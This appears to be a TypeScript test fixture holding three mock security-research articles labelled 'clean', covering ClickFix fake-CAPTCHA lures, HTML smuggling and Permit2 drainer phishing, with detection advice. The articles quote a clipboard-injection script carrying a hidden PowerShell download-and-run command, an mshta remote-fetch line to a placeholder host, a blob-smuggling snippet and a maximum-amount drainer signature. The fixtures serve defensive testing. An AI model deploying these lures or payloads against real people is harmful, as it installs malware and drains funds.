import type { Entry } from '../entry.js';
import { raw, js, md, mdRenderer, articleCss } from '../parts/c-benign-articles.js';

export const entries: Entry[] = [
  {
    id: 'c-clean-article-clickfix',
    label: 'clean',
    kind: 'article',
    url: 'https://research.threatfrontier.io/blog/clickfix-fake-captcha-clipboard-lures',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Inside "ClickFix": fake CAPTCHAs that make you run the malware yourself | ThreatFrontier Research</title><link rel="stylesheet" href="/assets/post.css"></head>
<body><header>ThreatFrontier Research</header><article id="post"><p class="meta">Loading…</p></article>
<script type="text/markdown" id="src">
# Inside "ClickFix": fake CAPTCHAs that make you run the malware yourself

*By the ThreatFrontier intel team · 12 min read*

Since spring we have tracked hundreds of compromised WordPress sites injecting a fake **"Verify you are human"** overlay. The lure never downloads a file. Instead, clicking the checkbox silently puts a command on the clipboard and the page tells the visitor to press Win+R, Ctrl+V and Enter.

## The injected script

The overlay is a few lines of JavaScript. Note the trailing comment: it is what the victim sees in the narrow Run dialog.

` + '```' + raw`js
checkbox.addEventListener('click', () => {
  const cmd = 'powershell -w hidden -c "iex (iwr https://<stage1-host>/v.txt -UseBasicParsing).Content" # ✅ I am not a robot - reCAPTCHA ID: 4821';
  navigator.clipboard.writeText(cmd);
  showSteps(['Press Win + R', 'Press Ctrl + V', 'Press Enter']);
});
` + '```' + raw`

Variants we observed use mshta instead of PowerShell:

` + '```' + raw`text
mshta https://<stage1-host>/captcha/v.hta   # Cloudflare Human Verification Ray ID: 8f1c…
` + '```' + raw`

## Detection ideas

- Alert on explorer.exe spawning powershell.exe or mshta.exe with a URL argument shortly after a browser had focus.
- The RunMRU registry key keeps the pasted command: look for http and iex in it.
- Block mshta.exe from reaching the internet.

> No legitimate CAPTCHA will ever ask you to open a Run dialog or a terminal.

## Indicators

IOCs are available as a [STIX bundle](https://research.threatfrontier.io/iocs/clickfix-2024.json).
</script>
<script src="/assets/md.js"></script>
<script>document.getElementById('post').innerHTML = renderMarkdown(document.getElementById('src').textContent); document.title = document.querySelector('#post h2').textContent + ' | ThreatFrontier Research';</script>
</body></html>`,
    routes: {
      'research.threatfrontier.io/assets/md.js': js(mdRenderer),
      'research.threatfrontier.io/assets/post.css': { status: 200, headers: { 'content-type': 'text/css' }, body: articleCss },
    },
  },
  {
    id: 'c-clean-article-html-smuggling',
    label: 'clean',
    kind: 'article',
    url: 'https://www.secureworks-labs.net/posts/html-smuggling-explained/',
    body: raw`<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>HTML smuggling explained | Labs</title><link rel="stylesheet" href="/static/post.css"></head>
<body><header>Labs · Threat research</header><article id="a"><p class="meta">Loading article…</p></article>
<script src="/static/md.js"></script>
<script>
fetch('/posts/html-smuggling-explained/index.md').then(function (r) { return r.text(); }).then(function (t) {
  var fm = /^---\n([\s\S]*?)\n---\n/.exec(t), meta = {};
  if (fm) { fm[1].split('\n').forEach(function (l) { var i = l.indexOf(':'); meta[l.slice(0, i).trim()] = l.slice(i + 1).trim(); }); t = t.slice(fm[0].length); }
  document.title = meta.title + ' | Labs';
  document.getElementById('a').innerHTML = '<p class="meta">' + meta.author + ' · ' + meta.date + '</p>' + renderMarkdown(t);
});
</script></body></html>`,
    routes: {
      'www.secureworks-labs.net/static/md.js': js(mdRenderer),
      'www.secureworks-labs.net/static/post.css': { status: 200, headers: { 'content-type': 'text/css' }, body: articleCss },
      'www.secureworks-labs.net/posts/html-smuggling-explained/index.md': md(raw`---
title: HTML smuggling explained: how payloads get past the mail gateway
author: Priya Raman
date: 2024-03-18
---
# HTML smuggling explained

An HTML attachment contains no executable, so gateways that scan attachments see only text. The payload is assembled **inside the browser**:

` + '```' + raw`js
const bytes = Uint8Array.from(atob(payloadB64), c => c.charCodeAt(0));
const blob = new Blob([bytes], { type: 'application/octet-stream' });
const a = document.createElement('a');
a.href = URL.createObjectURL(blob);
a.download = 'Invoice_0931.zip';   // often an ISO, IMG or a password-protected ZIP
document.body.appendChild(a);
a.click();
` + '```' + raw`

Older samples also call ` + '`navigator.msSaveOrOpenBlob(blob, name)`' + raw` for legacy Edge.

## What defenders can do

- Treat .html/.htm/.shtml attachments from outside as high risk; open them in an isolated viewer.
- Mark-of-the-Web: make sure ISO/IMG mounting propagates MOTW (patched since late 2022).
- Hunt for browsers writing .js, .lnk, .iso or .zip files to Downloads immediately followed by wscript.exe or explorer mounting an image.

> Blob downloads are everywhere in legitimate apps (CSV exports, PDF invoices). The signal is the combination: an attachment, a decoded blob, and an executable or archive type.
`),
    },
  },
  {
    id: 'c-clean-article-permit2-drainers',
    label: 'clean',
    kind: 'article',
    url: 'https://blog.chainsentinel.xyz/permit2-signature-phishing',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Permit2 signature phishing — Chain Sentinel</title><link rel="stylesheet" href="/css/a.css"></head>
<body><header>Chain Sentinel · Web3 security notes</header><article id="a"></article>
<script type="text/markdown" id="md">
# Permit2 signature phishing: one signature, every token

Drainer kits moved from asking for **approve** transactions to asking for **off-chain signatures**. A signature costs no gas and wallets used to show it as an unreadable blob, so victims sign without a second thought.

## What the kit asks your wallet to sign

` + '```' + raw`json
{
  "primaryType": "PermitBatch",
  "domain": { "name": "Permit2", "chainId": 1, "verifyingContract": "0x000000000022D473030F116dDEE9F6B43aC78BA3" },
  "message": {
    "details": [{ "token": "0xA0b8…eB48", "amount": "1461501637330902918203684832716283019655932542975", "expiration": "1799999999", "nonce": "0" }],
    "spender": "0x<drainer>",
    "sigDeadline": "1799999999"
  }
}
` + '```' + raw`

The amount is the maximum uint160 and the expiration is years away. With this signature the attacker calls permitTransferFrom and moves every listed token.

## How a legitimate dapp differs

- The amount equals what you are swapping, not the maximum.
- Expiration and sigDeadline are minutes, not years.
- The spender is a known router, shown by name in your wallet.

## Revoke

Check [revoke.cash](https://revoke.cash/) and remove Permit2 allowances you do not recognise. Signing ` + '`eth_signTypedData_v4`' + raw` requests from sites reached through an airdrop DM is the most common way people lose funds.
</script>
<script src="/js/md.js"></script>
<script>document.getElementById('a').innerHTML = renderMarkdown(document.getElementById('md').textContent);</script>
</body></html>`,
    routes: {
      'blog.chainsentinel.xyz/js/md.js': js(mdRenderer),
      'blog.chainsentinel.xyz/css/a.css': { status: 200, headers: { 'content-type': 'text/css' }, body: articleCss },
    },
  },
];
